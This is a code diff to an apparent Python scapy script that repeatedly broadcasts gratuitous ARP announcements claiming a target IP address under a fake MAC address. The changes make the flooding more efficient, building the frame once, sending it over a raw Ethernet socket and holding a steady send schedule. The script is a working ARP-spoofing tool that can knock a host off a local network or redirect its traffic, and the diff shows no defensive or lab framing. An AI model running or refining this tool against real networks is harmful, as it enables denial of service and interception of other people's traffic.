@@ -10,12 +10,26 @@ Usage:
 """
 
 import argparse
+import socket
 import time
 import sys
 import random
 from scapy.all import ARP, Ether, sendp, get_if_list
 
 
+def open_raw_socket(interface):
+    """Open a raw Ethernet socket bound to interface, or return None if unavailable (e.g. Windows)"""
+    if not hasattr(socket, "AF_PACKET"):
+        return None
+    try:
+        # Protocol 0 makes it send-only: the kernel queues no received frames on it
+        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
+        sock.bind((interface, 0))
+        return sock
+    except OSError:
+        return None
+
+
 def send_conflict_arp(interface, target_ip, interval=1.0):
     """Continuously send ARP announcements claiming the target IP"""
     
@@ -27,26 +41,41 @@ def send_conflict_arp(interface, target_ip, interval=1.0):
     print(f"Interval: {interval} seconds")
     print(f"Press Ctrl+C to stop\n")
     
+    # Build the gratuitous ARP (announcement) once - every field is fixed
+    arp = ARP(
+        op=1,  # ARP request
+        psrc=target_ip,  # Source IP (the IP we're claiming)
+        pdst=target_ip,  # Target IP (same as source for gratuitous)
+        hwsrc=fake_mac,  # Source MAC
+        hwdst="ff:ff:ff:ff:ff:ff"  # Broadcast MAC
+    )
+    
+    # Send on Ethernet layer
+    packet = Ether(dst="ff:ff:ff:ff:ff:ff", src=fake_mac) / arp
+    raw_packet = bytes(packet)
+    
+    # Send the serialized frame directly where raw sockets are available, otherwise use sendp
+    sock = open_raw_socket(interface)
+    
     count = 0
+    # Schedule sends on a fixed monotonic grid so send overhead doesn't stretch the interval
+    next_tick = time.monotonic()
     try:
         while True:
-            # Create gratuitous ARP (announcement)
-            arp = ARP(
-                op=1,  # ARP request
-                psrc=target_ip,  # Source IP (the IP we're claiming)
-                pdst=target_ip,  # Target IP (same as source for gratuitous)
-                hwsrc=fake_mac,  # Source MAC
-                hwdst="ff:ff:ff:ff:ff:ff"  # Broadcast MAC
-            )
-            
-            # Send on Ethernet layer
-            packet = Ether(dst="ff:ff:ff:ff:ff:ff", src=fake_mac) / arp
-            
-            sendp(packet, iface=interface, verbose=False)
+            if sock is not None:
+                sock.send(raw_packet)
+            else:
+                sendp(packet, iface=interface, verbose=False)
             count += 1
             print(f"[{count}] Sent ARP announcement: {target_ip} is at {fake_mac}")
             
-            time.sleep(interval)
+            next_tick += interval
+            sleep_for = next_tick - time.monotonic()
+            if sleep_for > 0:
+                time.sleep(sleep_for)
+            else:
+                # Fell behind (e.g. a slow send) - resync rather than bursting to catch up
+                next_tick = time.monotonic()
             
     except KeyboardInterrupt:
         print(f"\n\nStopped. Sent {count} ARP announcements.")
@@ -55,6 +84,9 @@ def send_conflict_arp(interface, target_ip, interval=1.0):
         import traceback
         traceback.print_exc()
         sys.exit(1)
+    finally:
+        if sock is not None:
+            sock.close()
 
 
 def main():